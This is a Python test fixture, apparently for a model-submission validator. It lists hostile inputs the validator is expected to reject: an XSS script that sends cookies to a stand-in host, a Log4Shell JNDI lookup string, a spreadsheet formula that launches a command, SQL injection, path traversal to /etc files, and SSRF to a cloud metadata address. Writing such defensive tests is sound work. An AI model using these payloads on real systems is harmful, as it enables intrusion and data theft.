"""Hostile forms: what is written to be run, shown or opened by somebody else."""

from typing import Any

from tests.submissions.made import form_of

from . import Hostile


def _card(says: str, **card: Any) -> Hostile:
    return Hostile("hub", says, form=form_of("hub", card=card))


def _form(says: str, **changes: Any) -> Hostile:
    return Hostile("hub", says, form=form_of("hub", **changes))


def _reference(says: str, **changes: Any) -> Hostile:
    return _form(says, reference=form_of("hub")["reference"] | changes)


FORMS = {
    "script": _card("markup", summary="<script>fetch('//x/'+document.cookie)</script>"),
    "event handler": _card("markup", licence='MIT<img src=x onerror="alert(1)">'),
    "terminal": _card("control", summary="ok\x1b]52;c;ZXZpbA==\x07"),
    "log line": _card("control", source="x\n2026-11-22 root logged in"),
    "formula": _card("formula", accuracy='=cmd|" /C calc"!A0'),
    "template": _card("template", summary="{{ config.items() }}"),
    "format": _card("template", summary="${jndi:ldap://evil/x}"),
    "script address": _card("runs or opens", code="javascript:alert(1)"),
    "file address": _card("runs or opens", code="file:///etc/passwd"),
    "data address": _card("opens something", source="data:text/html;base64,PHNjcmlwdD4="),
    "backwards": _card("direction", summary="safe \u202e\u2066evil"),
    "invisible": _card("invisible", licence="MIT\u200b"),
    "nothing": _card("empty", summary="\u3000"),
    "a megabyte": _card("1,000,000 characters", summary="x" * 10**6),
    "marks": _card("stacks", summary="Z" + "\u0315" * 50),
    "half a character": _card("half", summary="\ud800"),
    "unknown term": _card("no learning rule", learning_rule="' OR 1=1 --"),
    "infinite seed": _card("seed", seed=2**70),
    "path for a name": _form("no name", model="../../../etc/cron.d/x"),
    "statement for a name": _form("no name", model="x'; DROP TABLE submission;--"),
    "dots for a name": _form("no name", model=".."),
    "look-alike for a name": _form("no name", model="rеsnet"),
    "other fields": _form("no such field", role="admin"),
    "other account": _form("no such field", account_id=1),
    "benchmark by path": _form("no benchmark", benchmarks=["../../x/y"]),
    "a thousand benchmarks": _form("at most", benchmarks=["simulated/IT/rsa"] * 1000),
    "address for a reference": _reference("reference", name="evil.example/x/../../y"),
    "revision that moves": _reference("can change", revision="main"),
    "pickle on a hub": _reference("not safetensors", file="pytorch_model.bin"),
    "path on a hub": _reference("no path inside", file="a/../../model.safetensors"),
    "own hub": _reference("hub", hub="http://169.254.169.254"),
    "plug-in": Hostile("plugin", "approved", b"import os", form_of("plugin")),
    "NaN": _form("finite", preprocessing={"resize": 8, "crop": 8, "mean": [float("nan")] * 3}),
    "giant images": _form("4096", preprocessing={"resize": 10**9, "crop": 10**9}),
    "code for an architecture": _form("library", network={"architecture": "os/system"}),
}
